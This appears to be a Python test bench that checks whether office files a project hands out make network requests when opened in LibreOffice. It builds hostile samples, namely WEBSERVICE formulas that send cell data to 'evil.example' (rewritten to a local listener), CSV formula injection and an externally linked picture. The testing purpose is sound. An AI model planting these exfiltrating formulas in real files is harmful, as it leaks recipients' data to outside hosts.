"""Opens every kind of file that is handed out in LibreOffice, and says whether any asks a host.

python -m tests.bench.calling_out [HOME]   a home with the demo town; without, one is loaded. PYTHON_UNO: a Python that knows UNO

All hostile names point to a listener on this machine. First come files that do ask, which shows that the listener would hear;
each of the returned copies among them is then opened as the program gives it back. Ends with 1 when a file of ours asks anything.
"""

import http.server
import io
import os
import subprocess
import sys
import tempfile
import threading
import zipfile
from pathlib import Path

import docx
from docx.oxml import parse_xml
from openpyxl import Workbook

from checks import returned_copies
from tests.checks import test_active_content
from tests.conftest import ROOT
from tests.pages.downloads import hostile_names

EVIL = "http://evil.example"
PACKAGE, DRAWING = "http://schemas.openxmlformats.org/officeDocument/2006", "http://schemas.openxmlformats.org/drawingml/2006"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PICTURE = f"""<w:r xmlns:w="{WORD}" xmlns:wp="{DRAWING}/wordprocessingDrawing" xmlns:a="{DRAWING}/main" xmlns:pic="{DRAWING}/picture"
 xmlns:r="{PACKAGE}/relationships"><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic>
<a:graphicData uri="{DRAWING}/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>
<a:blip r:link="LINK"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/>
</a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"""


class Listener(http.server.ThreadingHTTPServer):
    """A host that keeps what it was asked."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        super().__init__(("127.0.0.1", 0), Answer)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def address(self) -> str:
        """Where it listens."""
        return f"http://127.0.0.1:{self.server_port}"


class Answer(http.server.BaseHTTPRequestHandler):
    """Says yes to whatever is asked."""

    server: Listener

    def do_GET(self) -> None:
        """Keep the question."""
        self.server.heard.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"1")

    do_HEAD = do_OPTIONS = do_PROPFIND = do_GET

    def log_message(self, *_words: object) -> None:
        """Say nothing."""


def hostile(host: str) -> dict[str, bytes]:
    """Files that ask: the ledger with every way out, a cell and a rule of colouring alone, a list, a linked picture."""
    ledger = test_active_content.hostile()
    with zipfile.ZipFile(io.BytesIO(ledger)) as old, zipfile.ZipFile(stream := io.BytesIO(), "w") as new:
        for name in old.namelist():
            body = old.read(name).replace(EVIL.encode(), host.encode())
            # In a cell LibreOffice knows the function by this name alone; a rule that asks for a cell at fault asks nobody.
            body = body.replace(b"<f>WEBSERVICE(", b"<f>_xlfn.WEBSERVICE(").replace(b"ENCODEURL($A$2)", b"ENCODEURL($D$2)")
            new.writestr(name, body)
    return {
        "every_way.xlsm": stream.getvalue(),
        "cell.xlsx": _workbook(f'=_xlfn.WEBSERVICE("{host}/cell?"&A2)'),
        "rule.xlsx": _workbook(None, test_active_content.RULES.replace(EVIL, host)),
        "names.csv": f'甲,=WEBSERVICE("{host}/list")\r\n乙;=WEBSERVICE("{host}/list")\r\n'.encode(),
        "picture.docx": _document(f"{host}/picture.png"),
    }


def _workbook(formula: str | None, rules: str = "") -> bytes:
    book = Workbook()
    book.active["A2"], book.active["B2"] = "张甲", formula
    for row in range(3, 9):
        book.active.cell(row, 1, row)
    book.save(stream := io.BytesIO())
    with zipfile.ZipFile(stream) as old, zipfile.ZipFile(ruled := io.BytesIO(), "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name).replace(b"<pageMargins", rules.encode() + b"<pageMargins", 1))
    return ruled.getvalue()


def _document(address: str) -> bytes:
    document = docx.Document()
    link = document.part.relate_to(address, f"{PACKAGE}/relationships/image", is_external=True)
    document.add_paragraph("")._p.append(parse_xml(PICTURE.replace("LINK", link)))
    document.save(stream := io.BytesIO())
    return stream.getvalue()


def handed_out(town: hostile_names.Town, originals: dict[str, bytes]) -> dict[str, bytes]:
    """Every kind of file of a town, and the copies of the hostile ones."""
    files = dict[str, bytes]()
    for name, make in hostile_names.FILES.items():
        content = make(town)
        if name.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(content)) as packed:
                of_offices = [part for part in packed.namelist() if part.endswith((".xlsx", ".csv", ".html"))]
                files |= {f"{name}_{at}{Path(part).suffix}": packed.read(part) for at, part in enumerate(of_offices)}
        elif not name.endswith(".png"):
            files[name] = content
    for name, content in originals.items():
        if name.endswith((".xlsx", ".xlsm", ".csv")):
            original = returned_copies.Original("0" * 16, name, content, [], frozenset(), "zh_CN")
            files[f"copy_of_{Path(name).stem}.xlsx"] = returned_copies.copy(original).content or b""
    return files


def main() -> int:
    """Write all files, open them one by one, print what each asks."""
    with tempfile.TemporaryDirectory() as folder:
        demo = Path(sys.argv[1]) if sys.argv[1:] else Path(folder) / "demo"
        if not sys.argv[1:]:
            subprocess.run(["make", "-s", "demo-town", f"DEMO_HOME={demo}"], cwd=ROOT, check=True)
        listener, written, home = Listener(), Path(folder) / "files", Path(folder) / "home"
        written.mkdir()
        home.mkdir()
        originals = hostile(listener.address)
        with hostile_names.renamed(demo, home, listener.address) as town:
            files = originals | handed_out(town, originals)
        for name, content in files.items():
            (written / name).write_bytes(content)
        command = [os.environ.get("PYTHON_UNO", "/usr/bin/python3"), str(ROOT / "tests" / "bench" / "office_opening.py")]
        asked = dict.fromkeys(files, 0)
        with subprocess.Popen([*command, *(str(written / name) for name in files)], stdout=subprocess.PIPE, text=True) as office:
            before = 0
            for line in office.stdout or ():
                name = Path(line.strip()).name
                asked[name], before = len(listener.heard) - before, len(listener.heard)
                print(f"{asked[name]:4}  {name}  {listener.heard[-1][:60] if asked[name] else ''}")
                files.pop(name, None)
    calling = [name for name, count in asked.items() if count and name not in originals]
    silent = [name for name in originals if not asked[name]]
    print(
        f"{len(asked) - len(originals)} files handed out, {len(calling)} ask a host; of {len(originals)} hostile ones {len(silent)} ask none"
    )
    print(
        *(f"not opened: {name}" for name in files),
        *(f"ASKS: {name}" for name in calling),
        *(f"silent: {name}" for name in silent),
        sep="\n",
    )
    return int(bool(files or calling or len(silent) == len(originals)))


if __name__ == "__main__":
    sys.exit(main())
